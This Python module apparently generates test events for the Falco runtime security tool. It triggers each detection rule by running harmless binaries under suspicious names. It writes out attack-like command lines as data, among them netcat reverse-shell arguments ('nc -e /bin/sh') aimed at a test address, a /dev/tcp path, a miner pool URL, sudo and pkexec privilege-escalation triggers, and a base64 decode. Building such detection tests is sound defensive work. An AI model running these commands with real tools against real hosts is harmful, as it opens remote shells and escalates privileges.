"""Falco's process rules: programs known by their name (a web server's shell, a miner, a
package manager in a container...), their arguments, their user and their environment.

A program of a given name is a copy of a harmless one (``true``, ``bash``, busybox in the
container) under that name: the kernel names a process after the file it runs, as Falco reads it.
"""

from __future__ import annotations

import os
import shutil
import subprocess

from .base import FalcoAction, Run, SkipAction, sh


def web_server_spawns_shell(run: Run) -> None:
    # its shell, that shell's shell, whoami, a program given a /dev/tcp/ path: one rule each
    nginx = run.named("nginx", "bash")
    sh(nginx, "-c", "sh -c 'sh -c true; true'; whoami >/dev/null; "
                    "/bin/true /dev/tcp/198.18.0.2/4444; :")


def db_spawns_shell(run: Run) -> None:
    sh(run.named("mysqld", "bash"), "-c", "/bin/sh -c true; true")


def db_spawns_process(run: Run) -> None:
    sh(run.named("mysqld", "bash"), "-c", "/bin/true; :")


def system_user_login(run: Run) -> None:
    # a program named login run as www-data (setpriv sets the real and effective ids)
    login = run.named("login", "true")
    sh("setpriv", "--reuid=www-data", "--regid=www-data", "--clear-groups", login)


def crontab(run: Run) -> None:
    sh(run.named("crontab"), "-l")


def user_mgmt(run: Run) -> None:
    sh(run.named("chpasswd"))


def network_tool_on_host(run: Run) -> None:
    sh(run.named("nmap"), "-sn", "198.18.0.2")


def netcat_exec_on_host(run: Run) -> None:
    sh(run.named("nc"), "-e", "/bin/sh", "198.18.0.2", "4444")


def stratum_miner(run: Run) -> None:
    sh(shutil.which("true") or "/bin/true", "-o", "stratum+tcp://pool.invalid:3333")


def known_miner(run: Run) -> None:
    sh(run.named("xmrig"), "--version")


def sudo_shell_escape(run: Run) -> None:
    sh(run.named("sudo"), "-s", "sw-gen\\")


def pkexec_no_args(run: Run) -> None:
    sh(run.named("pkexec"))


def _run_named_with_env(run: Run, name: str, var: str, value: str) -> None:
    """A program named ``name`` started with ``var`` in its environment, that exits at once:
    busybox's static ``true`` (no dynamic loader to wait for) under that name."""
    busybox = shutil.which("busybox")
    program = run.copy_binary(busybox, name) if busybox else run.named(name)
    subprocess.run(["true"], executable=program, env={**os.environ, var: value},
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def http_proxy_env(run: Run) -> None:
    _run_named_with_env(run, "wget", "HTTP_PROXY", "http://198.18.0.2:3128")


def glibc_tunables(run: Run) -> None:
    _run_named_with_env(run, "sw-gen-tunables", "GLIBC_TUNABLES", "glibc.malloc.mxfast=0")


def recon_with_terminal(run: Run) -> None:
    # script runs $SHELL -c: bash execs a lone command in place, dash (the /bin/sh used when
    # SHELL is unset, as under CI) forks it, out of the session's process group; ``exec`` makes
    # whoami the session's leader in either, as when typed at a prompt
    sh("script", "-qc", "exec whoami", "/dev/null")


# -- in the container -----------------------------------------------------------------------

def terminal_shell_in_container(run: Run) -> None:
    if not run.container:
        raise SkipAction("needs --container NAME")
    sh("script", "-qc", f"docker exec -it {run.container} sh -c 'exit 0'", "/dev/null")


def _busybox_as(name: str, args: str = "") -> str:
    # a symbolic link, not a copy: the kernel names the process after the link, and the file it
    # runs stays the image's (a copy would be a new binary in the container's upper layer, which
    # "Drop and execute new binary in container", loaded first, takes)
    return f"ln -sf /bin/busybox /tmp/{name} && /tmp/{name} {args}; rm -f /tmp/{name}"


def netcat_in_container(run: Run) -> None:
    # by its path: busybox's shell runs its own applets as /proc/self/exe, a process named exe
    run.in_container("/bin/nc -e /bin/sh 127.0.0.1 1; /bin/nc -w 1 127.0.0.1 1 </dev/null")


def package_manager_in_container(run: Run) -> None:
    run.in_container(_busybox_as("apt-get", "install curl"))


def remote_copy_in_container(run: Run) -> None:
    run.in_container(_busybox_as("scp", "sw-gen@198.18.0.2:/etc/hostname /tmp/"))


def wget_in_container(run: Run) -> None:
    run.in_container("/bin/wget -q -T 1 -O /dev/null http://127.0.0.1:1/")


def kubectl_in_container(run: Run) -> None:
    run.in_container(_busybox_as("kubectl", "get pods"))


def base64_decode_in_container(run: Run) -> None:
    run.in_container("echo c3ctZ2VuCg== | base64 -d >/dev/null")


def npm_runs_netcat(run: Run) -> None:
    run.in_container("ln -sf /bin/bash /tmp/npm && /tmp/npm -c 'nc 127.0.0.1 1 </dev/null; true'; "
                     "rm -f /tmp/npm")


def drop_and_execute(run: Run) -> None:
    run.in_container("cp /bin/busybox /tmp/sw-gen-dropped && /tmp/sw-gen-dropped true; "
                     "rm -f /tmp/sw-gen-dropped")


ACTIONS: tuple[FalcoAction, ...] = (
    FalcoAction("web-server-spawns-shell",
                ("Run shell untrusted", "Web Server Spawned Shell",
                 "Web Server Spawned Suspicious Child Process", "Reverse Shell from Web Server"),
                "a program named nginx runs a shell that runs a shell, whoami, and a program "
                "given a /dev/tcp/ path",
                web_server_spawns_shell),
    FalcoAction("db-spawns-process", ("DB program spawned process",),
                "a program named mysqld runs another program", db_spawns_process),
    FalcoAction("system-user-login", ("System user interactive",),
                "a program named login run as www-data", system_user_login),
    FalcoAction("crontab", ("Schedule Cron Jobs",), "a program named crontab", crontab),
    FalcoAction("user-mgmt", ("User mgmt binaries",), "a program named chpasswd", user_mgmt),
    FalcoAction("network-tool-on-host", ("Launch Suspicious Network Tool on Host",),
                "a program named nmap", network_tool_on_host),
    FalcoAction("netcat-exec-on-host", ("Netcat/Socat Remote Code Execution on Host",),
                "a program named nc run with -e /bin/sh", netcat_exec_on_host),
    FalcoAction("stratum-miner", ("Detect crypto miners using the Stratum protocol",),
                "a program run with a stratum+tcp:// pool URL", stratum_miner),
    FalcoAction("known-miner", ("Known Cryptominer Process Executed",),
                "a program named xmrig", known_miner),
    FalcoAction("sudo-shell-escape", ("Sudo Potential Privilege Escalation",),
                "a program named sudo run with -s and an argument ending in a backslash",
                sudo_shell_escape),
    FalcoAction("pkexec-no-args",
                ("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",),
                "a program named pkexec run without arguments", pkexec_no_args),
    FalcoAction("http-proxy-env", ("Program run with disallowed http proxy env",),
                "a program named wget started with HTTP_PROXY in its environment",
                http_proxy_env),
    FalcoAction("glibc-tunables",
                ("Potential Local Privilege Escalation via Environment Variables Misuse",),
                "a program started with GLIBC_TUNABLES in its environment", glibc_tunables),
    FalcoAction("recon-with-terminal", ("Basic Interactive Reconnaissance",),
                "whoami run in a terminal (script)", recon_with_terminal),
    FalcoAction("terminal-shell-in-container", ("Terminal shell in container",),
                "docker exec -it ... sh in the container", terminal_shell_in_container),
    FalcoAction("netcat-in-container",
                ("Netcat Remote Code Execution in Container",
                 "Launch Suspicious Network Tool in Container"),
                "in the container: nc -e /bin/sh, then nc alone", netcat_in_container),
    FalcoAction("package-manager-in-container", ("Launch Package Management Process in Container",),
                "in the container: a program named apt-get", package_manager_in_container),
    FalcoAction("remote-copy-in-container", ("Launch Remote File Copy Tools in Container",),
                "in the container: a program named scp", remote_copy_in_container),
    FalcoAction("wget-in-container", ("Launch Ingress Remote File Copy Tools in Container",),
                "in the container: wget", wget_in_container),
    FalcoAction("kubectl-in-container", ("Kubernetes Client Tool Launched in Container",),
                "in the container: a program named kubectl", kubectl_in_container),
    FalcoAction("base64-decode-in-container", ("Decoding Payload in Container",),
                "in the container: base64 -d", base64_decode_in_container),
    FalcoAction("npm-runs-netcat", ("Network Tool Executed During NPM Package Install",),
                "in the container: a program named npm runs nc", npm_runs_netcat),
    FalcoAction("drop-and-execute", ("Drop and execute new binary in container",),
                "in the container: a binary copied into the container's upper layer and run",
                drop_and_execute),
)
